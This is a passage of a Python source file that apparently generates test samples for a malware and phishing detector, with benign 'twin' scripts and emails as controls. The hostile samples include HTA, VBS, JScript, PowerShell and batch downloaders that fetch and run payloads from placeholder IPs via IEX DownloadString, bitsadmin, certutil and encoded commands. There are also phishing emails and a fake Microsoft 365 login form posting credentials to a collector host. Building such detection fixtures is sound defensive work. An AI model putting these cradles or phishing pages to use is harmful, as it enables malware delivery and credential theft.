              + struct.pack("<QQQ", ft, ft, ft) + struct.pack("<I", 289792)
              + struct.pack("<iIH", 0, show, 0) + b"\0" * 10)
    assert len(header) == 0x4C
    extra = _env_block(env_target) if env_target else b""
    return header + _link_info(target) + strings + extra + struct.pack("<I", 0)


def ps_encoded(command):
    """PowerShell's -EncodedCommand argument: base64 of the UTF-16LE text."""
    return base64.b64encode(command.encode("utf-16-le")).decode()


# ---------------------------------------------------------------- scripts

SCRIPT_HTA = '''\
<html>
<head>
<title>Document viewer</title>
<HTA:APPLICATION ID="viewer" APPLICATIONNAME="viewer" BORDER="none" SHOWINTASKBAR="no" WINDOWSTATE="minimize">
<script language="VBScript">
Sub Window_OnLoad
    Set sh = CreateObject("WScript.Shell")
    sh.Run "powershell -nop -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')""", 0
    self.close
End Sub
</script>
</head>
<body>Loading the document...</body>
</html>
'''

SCRIPT_VBS = '''\
Option Explicit
Dim http, stream, sh, path
path = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\\report.exe"
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://203.0.113.45/report.exe", False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.ResponseBody
stream.SaveToFile path, 2
stream.Close
Set sh = CreateObject("WScript.Shell")
sh.Run path, 0, False
'''

SCRIPT_JSE = '''\
var sh = new ActiveXObject("WScript.Shell");
var tmp = sh.ExpandEnvironmentStrings("%TEMP%");
var cmd = "cmd /c bitsadmin /transfer job /download /priority high " +
          "http://198.51.100.23/invoice.exe " + tmp + "\\\\invoice.exe && start " + tmp + "\\\\invoice.exe";
sh.Run(cmd, 0, false);
'''

SCRIPT_PS_CRADLE = '''\
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0')
IEX ($wc.DownloadString('http://198.51.100.23/stage2.ps1'))
'''

SCRIPT_BAT = '''\
@echo off
bitsadmin /transfer upd /download /priority normal http://203.0.113.45/upd.txt %TEMP%\\upd.txt
certutil -decode %TEMP%\\upd.txt %TEMP%\\upd.exe
start /b %TEMP%\\upd.exe
'''


def script_bat_encoded():
    return ("@echo off\r\npowershell.exe -NoP -W Hidden -EncodedCommand %s\r\n"
            % ps_encoded("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/p')"))


# The twins.
SCRIPT_PS_ADMIN = '''\
# Rotates the application logs: keeps 14 days, compresses the rest.
param([string]$LogDir = 'D:\\Logs\\App', [int]$Days = 14)
$cutoff = (Get-Date).AddDays(-$Days)
Get-ChildItem -Path $LogDir -Filter *.log |
    Where-Object { $_.LastWriteTime -lt $cutoff } |
    ForEach-Object {
        Compress-Archive -Path $_.FullName -DestinationPath ($_.FullName + '.zip') -Force
        Remove-Item $_.FullName
    }
Write-Output "Rotated logs older than $cutoff in $LogDir"
'''

SCRIPT_WEB_JS = '''\
// Newsletter sign-up box for the shop's web site.
document.addEventListener('DOMContentLoaded', function () {
  var form = document.getElementById('signup');
  form.addEventListener('submit', function (ev) {
    ev.preventDefault();
    var xhr = new XMLHttpRequest();
    xhr.open('POST', '/api/newsletter');
    xhr.setRequestHeader('Content-Type', 'application/json');
    xhr.onload = function () {
      document.getElementById('status').textContent = xhr.status === 200 ? 'Thanks!' : 'Try again';
    };
    xhr.send(JSON.stringify({ email: form.email.value }));
  });
});
'''

SCRIPT_BAT_COPY = '''\
@echo off
rem Nightly copy of the shared reports to the backup disk.
set SRC=\\\\fileserver\\reports
set DST=E:\\backup\\reports
if not exist "%DST%" mkdir "%DST%"
robocopy "%SRC%" "%DST%" /MIR /R:2 /W:5 /LOG:"%DST%\\robocopy.log"
xcopy "%SRC%\\templates\\*.dotx" "%DST%\\templates\\" /Y /I
echo Backup finished at %DATE% %TIME%
'''


# ---------------------------------------------------------------- mail with HTML

def html_mail(html, subject="Your account", sender="Service <service@mybank.example>",
              attachments=()):
    return F.mail_bytes(subject=subject, body=html, body_type="text/html", sender=sender,
                        message_id="<%08x@mybank.example>" % zlib.crc32(html.encode()),
                        attachments=attachments)


PHISH_LINK_IP = '''\
<html><body><p>Dear customer,</p>
<p>Your account was locked. Confirm your details at
<a href="http://198.51.100.7/secure/login.php">https://www.mybank.example/secure</a>.</p>
</body></html>
'''
PHISH_LINK_OTHER = '''\
<html><body><p>Your parcel could not be delivered.</p>
<p>Track it at <a href="https://parcel-tracking.example.net/redeliver?id=8812">www.dhl.com</a>.</p>
</body></html>
'''
PHISH_LOGIN_PAGE = '''\
<!DOCTYPE html>
<html><head><title>Microsoft 365 - Sign in</title></head><body>
<form method="post" action="https://collector.example.org/o365/post.php">
<input type="email" name="login" placeholder="Email">
<input type="password" name="passwd" placeholder="Password">
<input type="submit" value="Sign in">
</form></body></html>
'''
# The twins.
MAIL_LINK_SAME = '''\
<html><body><p>Your statement is ready:
<a href="https://www.mybank.example/statements/2024-05">www.mybank.example</a></p>
<p>Or see <a href="https://mybank.example/help">https://mybank.example/help</a>.</p>
</body></html>
'''
MAIL_NEWSLETTER = '''\
<html><body><h1>May offers</h1>
<p><a href="https://click.shop.example/track?u=81&amp;l=offers">Read more</a></p>
<p>Visit <a href="https://click.shop.example/track?u=81&amp;l=home">www.shop.example</a></p>
<p><a href="https://click.shop.example/unsubscribe?u=81">Unsubscribe</a></p>
<img src="https://click.shop.example/open.gif?u=81" width="1" height="1">
</body></html>
'''
SEARCH_PAGE = '''\
<!DOCTYPE html>
<html><head><base href="https://www.library.example/"><title>Catalogue search</title></head>
<body><form method="get" action="https://www.library.example/search">
<input type="text" name="q"><input type="submit" value="Search">
</form></body></html>
'''
